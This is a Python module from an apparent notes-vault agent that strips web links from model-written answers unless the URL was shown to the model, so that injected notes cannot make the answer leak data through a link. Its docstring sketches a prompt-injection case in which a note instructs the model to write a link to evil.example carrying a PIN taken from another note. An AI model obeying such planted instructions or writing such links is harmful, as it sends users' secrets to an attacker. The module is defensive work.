"""The web links an answer written by a model may keep: those the model was shown.

A note can tell a model to write ``[verify your account](https://evil.example/?pin=...)``, the
pin read from another note. A link loads nothing by itself, but a click sends what its URL
holds. So an answer a model wrote keeps a web link only when its URL is one the model was
shown (in the question, the context sent with it, a note or a tool's result: what the notes
point at is what the answer may point at); any other link becomes its text, which the reader
still sees. An extractive answer quotes the notes themselves and is not judged this way.

URLs are found as a renderer finds them (markdown-it with linkify: markdown links, autolinks,
bare URLs written in the text) and compared as WHATWG parses them (ada), so spelling a host in
capitals or escaping a character makes no other URL; a trailing slash is no difference.

Obsidian makes a link of a URL written out in the text too (with its scheme, or from
``www.``): one the model was not shown is put in a code span (`unlink_unshown`), where it reads
the same and is no link; so does MathJax of ``\\href{url}{text}`` in math, which keeps its
text only. What the model wrote itself is never shown to it: a tool's result repeats its
arguments ("No notes match \"https://...\""), so their URLs don't count.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable

import ada_url
from linkify_it import LinkifyIt
from markdown_it import MarkdownIt

from vault_agent.agent.safe_markdown import code_spans
from vault_agent.agent.spans import Spans
from vault_agent.agent.vault_urls import is_web_link
from vault_agent.vault.markdown import linear_link_labels

_PARSER = linear_link_labels(
    MarkdownIt("commonmark", {"linkify": True}).enable(["linkify", "table"])
)
#: URLs a renderer links in text: with their scheme, or starting "www." (not "Obsidian.md",
#: a note's name, which linkify's fuzzy rule also finds).
_LINKIFY = LinkifyIt(options={"fuzzy_link": True, "fuzzy_email": False})
#: MathJax's link commands (on by default in Obsidian's math): their URL, then for \href text.
_MATH_LINK = re.compile(r"\\(?P<command>href|url)\s*\{(?P<url>[^{}]*)\}")


def web_links_in(texts: Iterable[str]) -> frozenset[str]:
    """Every web page URL `texts` link to or write out (normalised)."""
    found: set[str] = set()
    for text in texts:
        for token in _PARSER.parse(text):
            for child in token.children or []:
                href = str(child.attrs.get("href", "")) if child.type == "link_open" else ""
                if href and is_web_link(href):
                    found.add(_normal(href))
    return frozenset(found)


def shown_only(shown: frozenset[str]) -> Callable[[str], bool]:
    """A link rule keeping web pages among `shown` (`web_links_in`) and nothing else."""
    return lambda url: is_web_link(url) and _normal(url) in shown


def unlink_unshown(markdown: str, keep: Callable[[str], bool]) -> str:
    """`markdown` with each URL written out in its text (outside code) that `keep` refuses
    made a code span, and each MathJax link to one its text alone, so nothing makes a link
    of it."""
    code = Spans(code_spans(markdown))

    def in_code(at: int) -> bool:
        return at in code

    edits: list[tuple[int, int, str]] = []
    for match in _LINKIFY.match(markdown) or []:
        fuzzy = not match.schema and not match.raw.lower().startswith("www.")
        if fuzzy or keep(match.url) or in_code(match.index):
            continue
        fence = "``" if "`" in match.raw else "`"
        edits.append((match.index, match.last_index, f"{fence}{match.raw}{fence}"))
    for link in _MATH_LINK.finditer(markdown):
        if keep(link["url"]) or in_code(link.start()):
            continue
        shown = "" if link["command"] == "href" else f"\\texttt{{{link['url']}}}"
        edits.append((link.start(), link.end(), shown))
    parts: list[str] = []
    done = 0
    for start, end, replacement in sorted(edits):
        if start < done:
            continue  # inside an edit already made (a URL of a math link)
        parts += [markdown[done:start], replacement]
        done = end
    return "".join(parts) + markdown[done:]


def _normal(url: str) -> str:
    try:
        normal = str(ada_url.normalize_url(url))
    except ValueError:  # not a URL the browser would follow either
        return url
    return normal.removesuffix("/")
